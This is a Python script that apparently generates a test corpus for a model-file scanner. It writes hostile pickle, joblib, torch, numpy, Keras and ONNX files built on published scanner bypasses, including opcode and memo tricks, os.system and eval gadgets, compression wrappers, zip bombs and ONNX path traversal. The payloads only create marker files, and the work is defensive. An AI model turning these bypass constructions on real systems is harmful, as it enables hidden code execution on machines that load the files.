"""Writes the hostile model files the scanner must call unsafe, with the Python standard library only.

  python3 __tests__/scan-corpus/hostile.py OUT_DIR [--verify]

Each file is a published way around pickle scanners (picklescan, modelscan, fickling advisories and issues;
JFrog, Sonatype and ReversingLabs write-ups) or one of the bypasses found in issue #14. OUT_DIR/manifest.json
lists them: name, class, and `verify` when the standard library can load the file. With --verify, each such
file is loaded in a child process (pickle.load, once or several times) and must create its marker file,
proving the payload runs: nothing here is a payload that merely looks bad.
"""
import bz2
import copyreg
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

OUT = os.path.abspath(sys.argv[1])
os.makedirs(OUT, exist_ok=True)
manifest = []


def mark(name):
    return os.path.join(OUT, name + ".ran")


def add(name, data, cls, verify=None):
    """verify: 'pickle' (one pickle.load), 'pickle2' (two loads: the payload is in the second)."""
    with open(os.path.join(OUT, name), "wb") as handle:
        handle.write(data)
    manifest.append({"name": name, "class": cls, "verify": verify})


def s(text):
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def touch_cmd(name):
    return f"touch {mark(name)}"


def exec_src(name):
    return f"open({mark(name)!r}, 'w').close()"


P2, P4 = b"\x80\x02", b"\x80\x04"


def g(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call1(callable_bytes, arg_bytes):
    """callable, (arg,), REDUCE."""
    return callable_bytes + arg_bytes + b"\x85R"


def reduce_pickle(module, name, *args, proto=P2):
    body = b"".join(s(a) for a in args)
    tup = {0: b")", 1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(args)]
    return proto + g(module, name) + body + tup + b"R."


# ---------------- 1. direct imports that run code (the classics and the advisories' gadgets) ----------------
def classics():
    for name, module, func, args in [
        ("os_system.pkl", "os", "system", lambda n: [touch_cmd(n)]),
        ("posix_system.pkl", "posix", "system", lambda n: [touch_cmd(n)]),
        ("builtins_eval.pkl", "builtins", "eval", lambda n: [f"__import__('os').system({touch_cmd(n)!r})"]),
        ("builtins_exec.pkl", "builtins", "exec", lambda n: [exec_src(n)]),
        ("py2_builtin_eval.pkl", "__builtin__", "eval", lambda n: [f"__import__('os').system({touch_cmd(n)!r})"]),
        ("subprocess_getoutput.pkl", "subprocess", "getoutput", lambda n: [touch_cmd(n)]),
        ("cprofile_run.pkl", "cProfile", "run", lambda n: [exec_src(n)]),
        ("profile_run.pkl", "profile", "run", lambda n: [exec_src(n)]),
        # The payload as timeit's setup, which runs once (as stmt it would run a million times).
        ("timeit_timeit.pkl", "timeit", "timeit", lambda n: ["pass", exec_src(n)]),
        ("code_interact_exec.pkl", "code", "InteractiveInterpreter", lambda n: []),
        ("pdb_run.pkl", "pdb", "run", lambda n: [exec_src(n)]),
        ("trace_exec.pkl", "builtins", "compile", lambda n: [exec_src(n), "x", "exec"]),
        ("pydoc_locate.pkl", "pydoc", "locate", lambda n: ["os.system"]),
        ("importlib_import_module.pkl", "importlib", "import_module", lambda n: ["antigravity"]),
        ("pkgutil_resolve_name.pkl", "pkgutil", "resolve_name", lambda n: ["os:system"]),
        ("io_open_write.pkl", "io", "open", lambda n: [mark(n), "w"]),
        ("pip_main.pkl", "pip", "main", lambda n: [["install", "evil"]]),
        ("shutil_rmtree.pkl", "shutil", "rmtree", lambda n: ["/nonexistent-ml-smoke"]),
        ("webbrowser_open.pkl", "webbrowser", "open", lambda n: ["http://127.0.0.1:9/"]),
        ("distutils_write_file.pkl", "distutils.file_util", "write_file", lambda n: [mark(n), ["x"]]),
    ]:
        a = args(name)
        if a and isinstance(a[0], list):
            data = P2 + g(module, func) + b"(" + b"".join(s(x) for x in a[0]) + b"l\x85R."
        elif len(a) == 2 and isinstance(a[1], list):
            data = P2 + g(module, func) + s(a[0]) + b"(" + s(a[1][0]) + b"l\x86R."
        else:
            data = reduce_pickle(module, func, *a)
        verify = "pickle" if name in {"os_system.pkl", "posix_system.pkl", "builtins_eval.pkl", "builtins_exec.pkl", "py2_builtin_eval.pkl", "subprocess_getoutput.pkl", "cprofile_run.pkl", "profile_run.pkl", "timeit_timeit.pkl", "io_open_write.pkl"} else None
        add(name, data, "direct import", verify)
    # runpy._run_code(code, globals)
    add("runpy_run_code.pkl", P2 + g("runpy", "_run_code") + s(exec_src("runpy_run_code.pkl")) + b"}\x86R.", "direct import", "pickle")
    # marshal.loads of code objects
    add("marshal_loads.pkl", P2 + g("marshal", "loads") + b"C\x01\x00\x85R.", "direct import")
    # operator.attrgetter / methodcaller, functools.partial wrappers (picklescan GHSA-m273, fickling #210)
    add("operator_methodcaller.pkl", P2 + g("_operator", "methodcaller") + s("system") + s(touch_cmd("operator_methodcaller.pkl")) + b"\x86R" + g("os", "path") + b"\x85R.", "gadget")
    add("functools_partial.pkl", P2 + g("functools", "partial") + g("os", "system") + s(touch_cmd("functools_partial.pkl")) + b"\x86R)R.", "gadget", "pickle")
    add("builtins_getattr_chain.pkl", P2 + g("builtins", "getattr") + g("builtins", "__import__") + s("os") + b"\x85R" + s("system") + b"\x86R" + s(touch_cmd("builtins_getattr_chain.pkl")) + b"\x85R.", "gadget", "pickle")
    add("asyncio_subprocess.pkl", reduce_pickle("asyncio.unix_events", "_UnixSubprocessTransport"), "direct import")
    add("ctypes_cdll.pkl", reduce_pickle("ctypes", "CDLL", "libc.so.6"), "direct import")
    add("numpy_runstring.pkl", reduce_pickle("numpy.testing._private.utils", "runstring", exec_src("x"), "x"), "allowlisted prefix")
    add("numpy_f2py.pkl", reduce_pickle("numpy.f2py.crackfortran", "getlincoef", "__import__('os').system('id')", "x"), "allowlisted prefix")
    add("torch_hub_load.pkl", reduce_pickle("torch.hub", "load", "evil/repo", "model"), "allowlisted prefix")
    add("torch_load_nested.pkl", reduce_pickle("torch.serialization", "load", "/tmp/evil.pt"), "allowlisted prefix")
    add("sklearn_prefix.pkl", reduce_pickle("sklearn.utils._testing", "TempMemmap", "x"), "allowlisted prefix")
    add("xxsubinterpreters.pkl", reduce_pickle("_xxsubinterpreters", "run_string", "1", exec_src("x")), "direct import")


# ---------------- 2. opcode variants: INST, OBJ, NEWOBJ, NEWOBJ_EX, STACK_GLOBAL, dotted names ----------------
def opcodes():
    add("obj_pty_spawn.pkl", b"(cpty\nspawn\nS\"true\"\no.", "OBJ (fickling #108)")
    add("truncated_global.pkl", b"cantigravity\nx", "GLOBAL cut at the end (pure-Python unpickler still imports)")
    add("inst_os_system.pkl", b"(S'" + touch_cmd("inst_os_system.pkl").encode() + b"'\nios\nsystem\n.", "INST", "pickle")
    add("obj_os_system.pkl", b"(cos\nsystem\nS'" + touch_cmd("obj_os_system.pkl").encode() + b"'\no.", "OBJ", "pickle")
    add("newobj_popen.pkl", P2 + g("subprocess", "Popen") + b"(" + s("touch") + s(mark("newobj_popen.pkl")) + b"l\x85\x81.", "NEWOBJ")
    add("newobj_ex.pkl", P4 + s("subprocess") + s("Popen") + b"\x93" + b"(" + s("true") + b"l\x85}\x92.", "NEWOBJ_EX")
    add("stack_global.pkl", P4 + s("os") + s("system") + b"\x93" + s(touch_cmd("stack_global.pkl")) + b"\x85R.", "STACK_GLOBAL", "pickle")
    # protocol 4 dotted names walk attributes: a "safe" module reaching os.system
    add("dotted_argparse_os.pkl", P4 + s("argparse") + s("_os.system") + b"\x93" + s(touch_cmd("dotted_argparse_os.pkl")) + b"\x85R.", "dotted name", "pickle")
    add("dotted_main_builtins.pkl", P4 + s("__main__") + s("__builtins__.exec") + b"\x93" + s(exec_src("dotted_main_builtins.pkl")) + b"\x85R.", "dotted name", "pickle")
    add("dotted_collections.pkl", P4 + s("collections") + s("OrderedDict.__init__.__globals__") + b"\x93.", "dotted name")
    add("dotted_torch.pkl", P4 + s("torch") + s("_utils.os.system") + b"\x93" + s("true") + b"\x85R.", "dotted name")
    add("dotted_numpy.pkl", P4 + s("numpy") + s("testing._private.utils.runstring") + b"\x93.", "dotted name")
    # modelscan #85: GLOBAL 'numpy' 'prod.a' after BUILD slotstate
    add("global_dotted_proto4.pkl", P4 + g("argparse", "_os.system") + s(touch_cmd("global_dotted_proto4.pkl")) + b"\x85R.", "dotted name", "pickle")


# ---------------- 3. stack and memo desync, escapes, integers as Python reads them ----------------
def desync():
    n = "pop_desync.pkl"
    # Strings a naive scanner pairs wrongly: 'torch' 'Tensor' pushed then dropped with POP / POP_MARK.
    add(n, P4 + s("os") + s("torch") + b"0" + s("system") + b"(" + s("torch") + s("Tensor") + b"1" + b"\x93" + s(touch_cmd(n)) + b"\x85R.", "stack desync (POP, POP_MARK)", "pickle")
    n = "pop_mark_empty.pkl"
    add(n, P4 + s("os") + b"(" + b"0" + s("system") + b"\x93" + s(touch_cmd(n)) + b"\x85R.", "stack desync (POP of a mark)", "pickle")
    n = "dup_desync.pkl"
    add(n, P4 + s("os") + s("system") + b"2" + b"0" + b"\x93" + s(touch_cmd(n)) + b"\x85R.", "stack desync (DUP)", "pickle")
    # picklescan #14: mixing BINPUT and MEMOIZE so memo[0] is 'os' for pickle, 'torch._utils' for a naive scanner
    n = "memo_binput_memoize.pkl"
    add(n, P4 + s("os") + b"q\x00" + s("system") + b"q\x01" + s("torch._utils") + b"\x94" + s("_rebuild_tensor_v2") + b"\x94" + b"0000" + b"h\x00h\x01\x93" + s(touch_cmd(n)) + b"\x85R.", "memo confusion (BINPUT + MEMOIZE)", "pickle")
    n = "memo_underscore_key.pkl"
    add(n, P2 + b"Vos\np1_0\n0Vsystem\np2\n0g10\ng2\n\x93" + s(touch_cmd(n)) + b"\x85R.", "memo key 1_0 (int() underscores)", "pickle")
    n = "memo_space_key.pkl"
    add(n, P2 + b"Vos\np 7 \n0Vsystem\np8\n0g7\ng8\n\x93" + s(touch_cmd(n)) + b"\x85R.", "memo key with spaces", "pickle")
    n = "memo_overwrite.pkl"
    add(n, P4 + s("torch") + b"q\x05" + s("os") + b"q\x05" + b"00" + s("system") + b"q\x06" + b"0h\x05h\x06\x93" + s(touch_cmd(n)) + b"\x85R.", "memo overwrite", "pickle")
    n = "string_escape_hex.pkl"
    add(n, P2 + b"S'o\\x73'\nS'sys\\x74em'\n\x93" + s(touch_cmd(n)) + b"\x85R.", "escaped STRING (\\x)", "pickle")
    n = "string_escape_octal.pkl"
    add(n, P2 + b"S'\\157s'\nS\"system\"\n\x93" + s(touch_cmd(n)) + b"\x85R.", "escaped STRING (octal)", "pickle")
    n = "unicode_escape.pkl"
    add(n, P2 + b"Vo\\u0073\nV\\u0073ystem\n\x93" + s(touch_cmd(n)) + b"\x85R.", "escaped UNICODE (\\u)", "pickle")
    n = "binstring_names.pkl"
    add(n, P2 + b"U\x02osU\x06system\x93" + s(touch_cmd(n)) + b"\x85R.", "SHORT_BINSTRING names", "pickle")
    n = "codecs_rot13_module.pkl"
    add(n, P4 + g("_codecs", "encode") + s("bf") + s("rot13") + b"\x86R" + s("system") + b"\x93" + s(touch_cmd(n)) + b"\x85R.", "module name built by _codecs.encode", "pickle")
    n = "codecs_bytes_name.pkl"
    add(n, P4 + s("os") + b"C\x06system" + b"\x93.", "STACK_GLOBAL of bytes")
    n = "reduce_on_result.pkl"
    add(n, P2 + g("builtins", "getattr") + g("os", "path") + s("join") + b"\x86R" + s("a") + b"\x85R.", "call of a value made while loading")
    # EXT opcodes: copyreg's extension registry maps codes to (module, name)
    copyreg.add_extension("os", "system", 0xF0)
    try:
        add("ext1_registry.pkl", P2 + b"\x82\xf0" + s("true") + b"\x85R.", "EXT1")
        add("ext2_registry.pkl", P2 + b"\x83\xf0\x00" + s("true") + b"\x85R.", "EXT2")
        add("ext4_registry.pkl", P2 + b"\x84\xf0\x00\x00\x00" + s("true") + b"\x85R.", "EXT4")
    finally:
        copyreg.remove_extension("os", "system", 0xF0)
    # A class from __main__ (a pickled custom model): loading it needs that code
    add("main_class.pkl", P2 + g("__main__", "Net") + b")\x81.", "__main__ class")
    add("copyreg_reconstructor_evil.pkl", P2 + g("copy_reg", "_reconstructor") + g("subprocess", "Popen") + g("__builtin__", "object") + b"N\x87R.", "reconstructor of a bad class")


# ---------------- 4. broken pickles (nullifAI) and pickles after the first STOP ----------------
def broken_and_multi():
    n = "broken_after_payload.pkl"
    add(n, reduce_pickle("os", "system", touch_cmd(n))[:-1] + b"\xff\xfe garbage", "broken pickle (nullifAI)", "pickle")
    n = "broken_truncated.pkl"
    add(n, reduce_pickle("os", "system", touch_cmd(n))[:-1], "broken pickle, no STOP", "pickle")
    benign = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
    n = "second_pickle.pkl"
    add(n, benign + reduce_pickle("os", "system", touch_cmd(n)), "second pickle after STOP", "pickle2")
    n = "second_pickle.bin"
    add(n, benign + reduce_pickle("os", "system", touch_cmd(n)), "second pickle after STOP (.bin)", "pickle2")
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    add("legacy_torch_payload.pt", magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + reduce_pickle("os", "system", "true") + pickle.dumps([], protocol=2), "legacy torch, payload in pickle 4")
    for ext in ["bin", "model", "sav", "ckpt", "txt"]:
        n = f"protocol0.{ext}"
        add(n, b"cos\nsystem\n(S'" + touch_cmd(n).encode() + b"'\ntR.", "protocol 0 pickle, any name", "pickle")
    n = "protocol1.dat"
    add(n, b"cposix\nsystem\nq\x00(X" + struct.pack("<I", len(touch_cmd(n))) + touch_cmd(n).encode() + b"tq\x01Rq\x02.", "protocol 1 pickle", "pickle")


# ---------------- 5. compression, containers and sizes ----------------
def torch_zip(entries, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=method)
    return buffer.getvalue()


def containers():
    payload = reduce_pickle("os", "system", "true")
    add("torch_zip_evil.pt", torch_zip([("archive/data.pkl", payload), ("archive/version", b"3\n")]), "torch zip data.pkl")
    add("torch_zip_other_pkl.pt", torch_zip([("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/extra.pkl", payload)]), "torch zip, second pickle entry")
    import warnings

    warnings.simplefilter("ignore")
    add("zip_duplicate_names.pt", torch_zip([("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/data.pkl", payload)]), "zip with two data.pkl (zipfile reads the last)")
    add("torch_zip_broken.pt", torch_zip([("archive/data.pkl", payload[:-1] + b"\xff")]), "torch zip, broken pickle (nullifAI)")
    add("torchscript.pt", torch_zip([("archive/data.pkl", pickle.dumps({}, protocol=2)), ("archive/constants.pkl", pickle.dumps(()), ), ("archive/code/__torch__.py", b"def forward(self):\n  pass\n")]), "TorchScript archive")
    n = "joblib_zlib.joblib"
    add(n, zlib.compress(reduce_pickle("os", "system", touch_cmd(n)), 3), "zlib joblib")
    add("joblib_gzip.joblib", gzip.compress(payload, mtime=0), "gzip joblib")
    add("joblib_bz2.joblib", bz2.compress(payload), "bz2 joblib")
    add("joblib_xz.joblib", lzma.compress(payload, format=lzma.FORMAT_XZ), "xz joblib")
    add("joblib_lzma.joblib", lzma.compress(payload, format=lzma.FORMAT_ALONE), "lzma joblib")
    add("joblib_zf.pkl", b"ZF" + hex(len(payload)).encode().ljust(19) + zlib.compress(payload), "old joblib ZF")
    add("xz_bcj_filter.joblib", lzma.compress(payload, format=lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "xz with a filter the scanner lacks")
    add("gzip_in_gzip.pkl", gzip.compress(gzip.compress(payload, mtime=0), mtime=0), "gzip twice")
    add("sevenzip.pt", b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(64), "7z (nullifAI wrapper)")
    add("zstd.pkl", b"\x28\xb5\x2f\xfd" + os.urandom(32), "zstd")
    add("lz4.joblib", b"\x04\x22\x4d\x18" + os.urandom(32), "lz4 joblib")
    # .npy object arrays: the data after the header is a pickle numpy.load(allow_pickle=True) runs
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
    add("object_array.npy", npy, ".npy object array")
    add("object_array.npz", torch_zip([("arr_0.npy", npy)], zipfile.ZIP_DEFLATED), ".npz with an object array")
    header = b"{'descr': [('a', '<f8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    add("structured_object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload, ".npy structured dtype with an object field")
    # Legacy torch tar whose "pickle" member runs code
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in [("sys_info", pickle.dumps({}, protocol=2)), ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)), ("tensors", pickle.dumps(0, protocol=2)), ("pickle", payload)]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    add("legacy_tar.pt", buffer.getvalue(), "legacy torch tar")
    # a zip inside a zip
    add("nested.zip", torch_zip([("inner/model.pt", torch_zip([("archive/data.pkl", payload)]))]), "zip in a zip")


def bombs():
    # 262 KB .pt whose deflated data.pkl is 257 MiB: a big BINBYTES8 then the payload
    size = 257 << 20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = P4 + b"\x8e" + struct.pack("<Q", size)
    parts = [compressor.compress(head)]
    zero = bytes(1 << 20)
    crc = zlib.crc32(head)
    for _ in range(size >> 20):
        parts.append(compressor.compress(zero))
        crc = zlib.crc32(zero, crc)
    tail = b"0" + reduce_pickle("os", "system", "true", proto=b"")
    parts.append(compressor.compress(tail))
    crc = zlib.crc32(tail, crc)
    parts.append(compressor.flush())
    deflated = b"".join(parts)
    total = len(head) + size + len(tail)
    name = b"archive/data.pkl"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(deflated), total, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(deflated), total, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(deflated), 0)
    add("inflation_bomb.pt", local + deflated + central + end, "deflated data.pkl of 257 MiB (too large to scan before)")
    # Overlapping entries: 40 local headers, each entry's data running over the headers after it into one
    # deflated kernel that each claims inflates to 1 GiB (the construction of "a better zip bomb")
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = data.compress(bytes(1 << 20)) + data.flush()
    headers = [struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, 0, 1 << 30, 3, 0) + f"e{i:02d}".encode() for i in range(40)]
    offsets = [sum(len(h) for h in headers[:i]) for i in range(40)]
    body = b"".join(headers) + kernel
    centrals = b""
    for i in range(40):
        size = len(body) - offsets[i] - len(headers[i])
        centrals += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, size, 1 << 30, 3, 0, 0, 0, 0, 0, offsets[i]) + f"e{i:02d}".encode()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 40, 40, len(centrals), len(body), 0)
    add("overlapping_entries.zip", body + centrals + end, "overlapping zip entries (zip bomb)")
    # An entry that claims deflate but holds random bytes (the 315-byte .pt that exited with code 13)
    junk = os.urandom(200)
    name = b"archive/data.pkl"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(junk), 1000, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(junk), 1000, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(junk), 0)
    add("fake_deflate.pt", local + junk + central + end, "entry claims deflate but is not")
    # Encrypted entry
    raw = bytearray(torch_zip([("archive/data.pkl", reduce_pickle("os", "system", "true"))]))
    for signature, offset in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)]:
        at = raw.find(signature)
        raw[at + offset] |= 1
    add("encrypted_entry.pt", bytes(raw), "encrypted zip entry")


def joblib_tricks():
    def wrapper(typestr, count, proto=P2, align=False):
        dtype = g("numpy", "dtype") + s(typestr) + b"\x89\x88\x87R" + b"(K\x03" + s("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff" + (b"K?" if typestr.startswith("O") else b"K\x00") + b"tb"
        state = b"}(" + s("subclass") + g("numpy", "ndarray") + s("shape") + b"J" + struct.pack("<i", count) + b"\x85" + s("order") + s("C") + s("dtype") + dtype + s("allow_mmap") + b"\x89" + (s("numpy_array_alignment_bytes") + b"K\x10" if align else b"") + b"u"
        return proto + g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"

    n = "joblib_array_hides_opcodes.joblib"
    hidden = b"cos\nsystem\n(S'" + touch_cmd(n).encode() + b"'\ntR0"
    add(n, wrapper("u1", len(hidden)) + hidden + b".", "joblib array data that pickle.load runs as opcodes")
    n = "joblib_array_hides_opcodes_aligned.joblib"
    hidden = b"cposix\nsystem\n(S'" + touch_cmd(n).encode() + b"'\ntR0"
    add(n, wrapper("u1", len(hidden) - 1, align=True) + hidden + b".", "joblib alignment byte that pickle.load runs as an opcode")
    add("joblib_object_array.joblib", wrapper("O8", 1) + reduce_pickle("os", "system", "true") + b".", "joblib object array: a nested pickle")
    framed = wrapper("u1", 4, proto=b"")
    add("joblib_array_in_frame.joblib", P4 + b"\x95" + struct.pack("<Q", len(framed) + 5) + framed + b"abcd.", "joblib array data inside a frame")


def others():
    lambda_config = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"}}]}}
    add("keras_lambda.keras", torch_zip([("metadata.json", b"{}"), ("config.json", json.dumps(lambda_config).encode()), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(56))]), "Keras Lambda layer")
    module_config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}]}}
    add("keras_module.keras", torch_zip([("metadata.json", b"{}"), ("config.json", json.dumps(module_config).encode())]), "Keras config naming a module")
    unsafe_config = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
    add("keras_enable_unsafe.keras", torch_zip([("metadata.json", b"{}"), ("config.json", json.dumps(unsafe_config).encode())]), "Keras CVE-2025-1550 style")
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/saved"}}
    add("keras_tfsm.keras", torch_zip([("metadata.json", b"{}"), ("config.json", json.dumps(tfsm).encode())]), "Keras TFSMLayer")
    h5 = b"\x89HDF\r\n\x1a\n" + bytes(120) + b"model_config\x00" + json.dumps(lambda_config).encode() + bytes(64)
    add("keras_lambda.h5", h5, "legacy Keras HDF5 with a Lambda layer")

    def varint(value):
        out = bytearray()
        while value >= 0x80:
            out.append((value & 0x7F) | 0x80)
            value >>= 7
        out.append(value)
        return bytes(out)

    def field(number, data):
        return varint(number << 3 | 2) + varint(len(data)) + data

    def onnx_with(location):
        entry = field(1, b"location") + field(2, location.encode())
        tensor = field(8, b"w") + field(13, entry) + varint(14 << 3) + varint(1)
        graph = field(1, field(1, b"x") + field(2, b"y") + field(4, b"Relu")) + field(5, tensor) + field(11, field(1, b"x")) + field(12, field(1, b"y"))
        return varint(1 << 3) + varint(8) + field(7, graph) + field(8, varint(2 << 3) + varint(17))

    add("onnx_dotdot.onnx", onnx_with("../../etc/passwd"), "ONNX external data with ..")
    add("onnx_absolute.onnx", onnx_with("/etc/passwd"), "ONNX external data, absolute path")
    os.makedirs(os.path.join(OUT, "onnx_links"), exist_ok=True)
    with open(os.path.join(OUT, "onnx_links", "secret.bin"), "wb") as handle:
        handle.write(bytes(64))
    link = os.path.join(OUT, "onnx_links", "weights.bin")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/etc/hostname", link)
    add(os.path.join("onnx_links", "symlink.onnx"), onnx_with("weights.bin"), "ONNX external data through a symlink")
    hard = os.path.join(OUT, "onnx_links", "hard.bin")
    if os.path.lexists(hard):
        os.remove(hard)
    os.link(os.path.join(OUT, "onnx_links", "secret.bin"), hard)
    add(os.path.join("onnx_links", "hardlink.onnx"), onnx_with("hard.bin"), "ONNX external data through a hard link")


classics()
opcodes()
desync()
broken_and_multi()
containers()
bombs()
joblib_tricks()
others()

with open(os.path.join(OUT, "manifest.json"), "w") as handle:
    json.dump(manifest, handle, indent=1)

if "--verify" in sys.argv:
    failures = []
    for item in manifest:
        if not item["verify"]:
            continue
        path = os.path.join(OUT, item["name"])
        loads = 2 if item["verify"] == "pickle2" else 1
        code = f"import pickle\nf = open({path!r}, 'rb')\nfor _ in range({loads}):\n    try:\n        pickle.load(f)\n    except Exception:\n        pass\n"
        subprocess.run([sys.executable, "-c", code], cwd=OUT, capture_output=True, timeout=60)
        if not os.path.exists(mark(item["name"])):
            failures.append(item["name"])
    print(json.dumps({"verified": sum(1 for i in manifest if i["verify"]), "failed": failures}))
